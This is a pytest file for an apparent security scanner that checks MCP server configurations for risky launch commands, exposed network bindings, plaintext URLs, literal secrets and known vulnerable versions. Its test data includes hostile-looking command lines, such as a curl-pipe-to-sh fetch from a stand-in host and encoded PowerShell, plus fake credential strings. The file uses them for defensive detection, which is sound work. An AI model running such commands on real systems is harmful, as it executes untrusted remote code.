"""Posture checks (TW-NET): each rule fires on its attack shape and stays quiet on the safe one."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from toolwitness.acquire.package_spec import package_from_command
from toolwitness.checks.text.secrets import literal_secret
from toolwitness.cli import main
from toolwitness.findings import Finding, Severity
from toolwitness.model import Coverage, ServerSurface, Transport
from toolwitness.pipeline import scan

# Built by concatenation so no scanner mistakes this test file for a leak.
GITHUB_TOKEN = "ghp_" + "x7Kq9Lm2Pw" * 4
AWS_KEY = "AKIA" + "QX7Z3K9P2LMN4RTV"
OPENAI_KEY = "sk-proj-" + "Tz8qW2eR5yU7iO9pA1sD3fG6hJ4kL0zX"
SLACK_TOKEN = "xoxb-" + "1234567890-0987654321-AbCdEfGhIjKlMnOp"


def _findings(**transport: object) -> list[Finding]:
    t = Transport(**transport)  # type: ignore[arg-type]
    surface = ServerSurface(
        id="s",
        source="cfg.json",
        transport=t,
        package=package_from_command(t.command, t.args),
        coverage=(Coverage.CONFIG,),
    )
    return list(scan([surface]).servers[0].findings)


def _ids(**transport: object) -> set[str]:
    return {f.rule_id for f in _findings(**transport) if f.rule_id.startswith("TW-NET")}


# --- TW-NET-001 / 002: what the config runs ----------------------------------------------------


@pytest.mark.parametrize(
    ("command", "args", "severity"),
    [
        ("bash", ["-c", "node server.js"], Severity.HIGH),
        ("/bin/sh", ["-c", "exec npx pkg"], Severity.HIGH),
        ("cmd", ["/c", "start", "server.bat"], Severity.HIGH),
        ("sh", ["-c", "curl -fsSL https://x.example/i.sh | sh"], Severity.CRITICAL),
        ("powershell", ["-NoProfile", "-enc", "SQBFAFgA"], Severity.CRITICAL),
        ("pwsh", ["-EncodedCommand", "SQBFAFgA"], Severity.CRITICAL),
        ("node", ["-e", "require('child_process').exec('id')"], Severity.HIGH),
        ("python3", ["-c", "import os; os.system('id')"], Severity.HIGH),
        ("bash", ["/opt/run-server.sh"], Severity.MEDIUM),
    ],
)
def test_shell_and_inline_code_flagged(command: str, args: list[str], severity: Severity) -> None:
    found = [
        f
        for f in _findings(kind="stdio", command=command, args=tuple(args))
        if f.rule_id == "TW-NET-001"
    ]
    assert len(found) == 1 and found[0].severity is severity
    assert not any(
        f.rule_id == "TW-NET-002"
        for f in _findings(kind="stdio", command=command, args=tuple(args))
    )


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("npx", ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/tmp"]),
        ("uvx", ["mcp-server-time==2026.7.10"]),
        ("python", ["-m", "mcp_server_x", "-c", "conf.yaml"]),
        ("python3.12", ["server.py"]),
        ("C:\\Program Files\\nodejs\\node.exe", ["server.js"]),
        ("docker", ["run", "-i", "--rm", "mcp/time@sha256:abc"]),
    ],
)
def test_package_launchers_are_not_shell_or_unknown(command: str, args: list[str]) -> None:
    assert not _ids(kind="stdio", command=command, args=tuple(args)) & {"TW-NET-001", "TW-NET-002"}


def test_unknown_absolute_binary_flagged() -> None:
    found = [
        f
        for f in _findings(kind="stdio", command="/opt/evil/bin/helper", args=("--serve",))
        if f.rule_id == "TW-NET-002"
    ]
    assert len(found) == 1
    assert "absolute path" in found[0].message
    assert _ids(kind="stdio", command="some-command", args=()) == {"TW-NET-002"}


# --- TW-NET-003 / 005: how an HTTP server is reached -------------------------------------------


def test_plaintext_http_to_remote_host() -> None:
    assert "TW-NET-003" in _ids(kind="http", url="http://mcp.example.com/mcp")
    assert "TW-NET-003" in _ids(kind="http", url="http://10.0.0.5:8080/mcp")
    assert "TW-NET-003" not in _ids(kind="http", url="https://mcp.example.com/mcp")
    assert "TW-NET-003" not in _ids(
        kind="http", url="http://127.0.0.1:3000/mcp", headers={"Authorization": "Bearer ${env:T}"}
    )


def test_plaintext_url_handed_to_a_proxy_in_args() -> None:
    ids = _ids(
        kind="stdio", command="npx", args=("-y", "mcp-remote@0.1.16", "http://remote.example/mcp")
    )
    assert "TW-NET-003" in ids


def test_localhost_without_auth_is_dns_rebinding_exposed() -> None:
    found = [
        f
        for f in _findings(kind="http", url="http://localhost:6277/mcp")
        if f.rule_id == "TW-NET-005"
    ]
    assert len(found) == 1 and "DNS rebinding" in found[0].message
    assert "TW-NET-005" in _ids(kind="sse", url="http://[::1]:8080/sse")
    assert "TW-NET-005" in _ids(kind="http", url="http://127.0.0.2/mcp")
    assert "TW-NET-005" not in _ids(
        kind="http", url="http://localhost:6277/mcp", headers={"Authorization": "Bearer ${env:T}"}
    )
    assert "TW-NET-005" not in _ids(kind="http", url="https://mcp.example.com/mcp")


# --- TW-NET-004: listening on every interface --------------------------------------------------


@pytest.mark.parametrize(
    ("args", "env"),
    [
        (("mcp-server", "--host", "0.0.0.0"), {}),
        (("mcp-server", "--host=0.0.0.0"), {}),
        (("mcp-server", "--bind", "::"), {}),
        (("mcp-server", "0.0.0.0:8080"), {}),
        (("mcp-server",), {"HOST": "0.0.0.0"}),
        (("mcp-server",), {"FASTMCP_HOST": "0.0.0.0"}),
    ],
)
def test_bind_all_interfaces(args: tuple[str, ...], env: dict[str, str]) -> None:
    assert "TW-NET-004" in _ids(kind="stdio", command="uvx", args=args, env=env)


def test_docker_publish_without_host_address_binds_all() -> None:
    assert "TW-NET-004" in _ids(
        kind="stdio", command="docker", args=("run", "-p", "8080:8080", "img:1")
    )
    assert "TW-NET-004" not in _ids(
        kind="stdio", command="docker", args=("run", "-p", "127.0.0.1:8080:8080", "img:1")
    )


def test_loopback_bind_is_fine() -> None:
    assert "TW-NET-004" not in _ids(
        kind="stdio",
        command="uvx",
        args=("srv==1", "--host", "127.0.0.1"),
        env={"HOST": "localhost"},
    )


# --- TW-NET-006: literal secrets, always redacted ----------------------------------------------


@pytest.mark.parametrize(
    ("where", "transport"),
    [
        (
            "env",
            {
                "kind": "stdio",
                "command": "npx",
                "args": ("x@1.0.0",),
                "env": {"GITHUB_TOKEN": GITHUB_TOKEN},
            },
        ),
        (
            "env",
            {
                "kind": "stdio",
                "command": "npx",
                "args": ("x@1.0.0",),
                "env": {"AWS_ACCESS_KEY_ID": AWS_KEY},
            },
        ),
        (
            "env",
            {
                "kind": "stdio",
                "command": "npx",
                "args": ("x@1.0.0",),
                "env": {"SLACK_BOT_TOKEN": SLACK_TOKEN},
            },
        ),
        (
            "env",
            {
                "kind": "stdio",
                "command": "npx",
                "args": ("x@1.0.0",),
                "env": {"SERVICE_SECRET": "q8Zr2LxN0vBt6YwK4mPj1Hs9"},
            },
        ),
        (
            "headers",
            {
                "kind": "http",
                "url": "https://h.example/mcp",
                "headers": {"Authorization": "Bearer " + OPENAI_KEY},
            },
        ),
        (
            "headers",
            {
                "kind": "http",
                "url": "https://h.example/mcp",
                "headers": {"Authorization": "Bearer abc.def.ghi-opaque"},
            },
        ),
        (
            "headers",
            {
                "kind": "http",
                "url": "https://h.example/mcp",
                "headers": {"X-API-Key": "k3y-not-a-reference"},
            },
        ),
        ("args", {"kind": "stdio", "command": "npx", "args": ("x@1.0.0", "--api-key", OPENAI_KEY)}),
        (
            "args",
            {"kind": "stdio", "command": "npx", "args": ("x@1.0.0", f"--api-key={OPENAI_KEY}")},
        ),
        (
            "args",
            {
                "kind": "stdio",
                "command": "docker",
                "args": ("run", "-e", f"GITHUB_TOKEN={GITHUB_TOKEN}", "img@sha256:ab"),
            },
        ),
        (
            "args",
            {
                "kind": "stdio",
                "command": "npx",
                "args": (
                    "mcp-remote@0.1.16",
                    "https://h/",
                    "--header",
                    "Authorization: Bearer q8Zr2LxN0vBt6YwK4mPj",
                ),
            },
        ),
        ("url", {"kind": "http", "url": "https://h.example/mcp?api_key=" + OPENAI_KEY}),
        (
            "env",
            {
                "kind": "stdio",
                "command": "npx",
                "args": ("x@1.0.0",),
                "env": {"DATABASE_URL": "postgres://app:Wq7pZ2kd9x@db.internal/app"},
            },
        ),
    ],
)
def test_literal_secret_found_and_redacted(where: str, transport: dict[str, object]) -> None:
    found = [f for f in _findings(**transport) if f.rule_id == "TW-NET-006"]
    assert len(found) == 1, found
    f = found[0]
    assert where in f.location
    secret_bits = [
        GITHUB_TOKEN[4:],
        AWS_KEY[4:],
        OPENAI_KEY[8:],
        SLACK_TOKEN[5:],
        "q8Zr2LxN0vBt6YwK4mPj1Hs9",
        "abc.def.ghi-opaque",
        "k3y-not-a-reference",
    ]
    for text in (f.message, f.evidence or "", *(w.detail or "" for w in f.witnesses)):
        assert not any(bit in text for bit in secret_bits), text
    assert "redacted" in (f.evidence or "")


@pytest.mark.parametrize(
    "env",
    [
        {"GITHUB_TOKEN": "${env:GITHUB_TOKEN}"},
        {"API_KEY": "${input:api-key}"},
        {"TOKEN": "${TOKEN}"},
        {"TOKEN": "$TOKEN"},
        {"TOKEN": "{env:TOKEN}"},
        {"TOKEN": "%TOKEN%"},
        {"API_KEY": "<your-api-key>"},
        {"API_KEY": "YOUR_API_KEY_HERE"},
        {"LOG_LEVEL": "debug"},
        {"ROOT": "/home/me/projects/some/long/path/here"},
        {"DATABASE_URL": "postgres://app:${DB_PASSWORD}@db.internal/app"},
        {"DATABASE_URL": "postgres://app@db.internal/app"},
    ],
)
def test_references_and_placeholders_are_not_secrets(env: dict[str, str]) -> None:
    assert "TW-NET-006" not in _ids(kind="stdio", command="npx", args=("x@1.0.0",), env=env)


def test_bearer_reference_header_is_fine() -> None:
    assert literal_secret("Authorization", "Bearer ${env:TOKEN}", header=True) is None
    assert literal_secret("Authorization", "Bearer $TOKEN", header=True) is None


def test_secret_never_reaches_any_report_format(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg = tmp_path / ".mcp.json"
    cfg.write_text(
        json.dumps(
            {
                "mcpServers": {
                    "gh": {
                        "command": "npx",
                        "args": ["-y", "x@1.0.0"],
                        "env": {"GITHUB_TOKEN": GITHUB_TOKEN},
                    }
                }
            }
        )
    )
    for fmt in ("terminal", "json", "sarif", "csv", "markdown"):
        code = main(["scan", "-f", fmt, str(cfg)])
        out = capsys.readouterr().out
        assert code == 0
        assert "TW-NET-006" in out
        assert GITHUB_TOKEN[4:] not in out, fmt


# --- TW-NET-007: advisories -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "args", "advisory", "severity"),
    [
        ("npx", ["-y", "mcp-remote@0.1.15", "https://h/mcp"], "CVE-2025-6514", Severity.CRITICAL),
        ("npx", ["-y", "mcp-remote@0.0.5", "https://h/mcp"], "CVE-2025-6514", Severity.CRITICAL),
        ("npx", ["@modelcontextprotocol/inspector@0.14.0"], "CVE-2025-49596", Severity.CRITICAL),
        (
            "npx",
            ["-y", "@modelcontextprotocol/server-filesystem@0.6.2", "/"],
            "CVE-2025-53110",
            Severity.HIGH,
        ),
        (
            "npx",
            ["-y", "@modelcontextprotocol/server-filesystem@2025.3.28", "/"],
            "CVE-2025-53109",
            Severity.HIGH,
        ),
        ("uvx", ["mcp-server-git==2025.9.24"], "CVE-2025-68143", Severity.HIGH),
        ("uvx", ["mcp-server-git==2026.1.13"], "CVE-2026-27735", Severity.MEDIUM),
        ("uvx", ["mcp_server_git==2025.1.14"], "CVE-2025-68145", Severity.HIGH),
    ],
)
def test_known_vulnerable_versions(
    command: str, args: list[str], advisory: str, severity: Severity
) -> None:
    found = [
        f
        for f in _findings(kind="stdio", command=command, args=tuple(args))
        if f.rule_id == "TW-NET-007" and advisory in f.message
    ]
    assert len(found) == 1 and found[0].severity is severity


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("npx", ["-y", "mcp-remote@0.1.16", "https://h/mcp"]),  # the fixed version itself
        ("npx", ["-y", "mcp-remote@0.0.4", "https://h/mcp"]),  # before the range was introduced
        ("npx", ["-y", "mcp-remote@1.0.0-beta.1", "https://h/mcp"]),
        ("npx", ["@modelcontextprotocol/inspector@0.14.1"]),
        ("npx", ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"]),
        ("npx", ["-y", "@modelcontextprotocol/server-filesystem@2025.7.1", "/"]),
        ("uvx", ["mcp-server-git==2026.1.14"]),
        ("uvx", ["mcp-server-git"]),  # unpinned: SUP-001's business, not a version match
        ("npx", ["-y", "mcp-remote@latest", "https://h/mcp"]),
    ],
)
def test_fixed_or_unpinned_versions_not_flagged(command: str, args: list[str]) -> None:
    assert "TW-NET-007" not in _ids(kind="stdio", command=command, args=tuple(args))


def test_prerelease_of_fixed_version_is_still_affected() -> None:
    ids = _ids(kind="stdio", command="npx", args=("-y", "mcp-remote@0.1.16-rc.1", "https://h/mcp"))
    assert "TW-NET-007" in ids


from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_pieces = st.sampled_from(
    ["npx", "bash", "-c", "--host", "0.0.0.0", "http://", "https://", "[::1", "localhost", ":99999",
     "ghp_", "sk-", "Bearer ", "${env:X}", "=", "@", "|", "sh", "-p", "8080:8080", "?key=", "%", "\u202e"]
)  # fmt: skip
_texts = st.lists(_pieces | st.text(max_size=12), max_size=5).map("".join)


@settings(max_examples=150, deadline=None)
@given(_texts, st.lists(_texts, max_size=6), st.dictionaries(_texts, _texts, max_size=3), _texts)
def test_posture_never_crashes(
    command: str, args: list[str], env: dict[str, str], url: str
) -> None:
    for transport in (
        {"kind": "stdio", "command": command or "x", "args": tuple(args), "env": env},
        {"kind": "http", "url": url, "headers": env},
    ):
        assert "TW-META-005" not in {f.rule_id for f in _findings(**transport)}
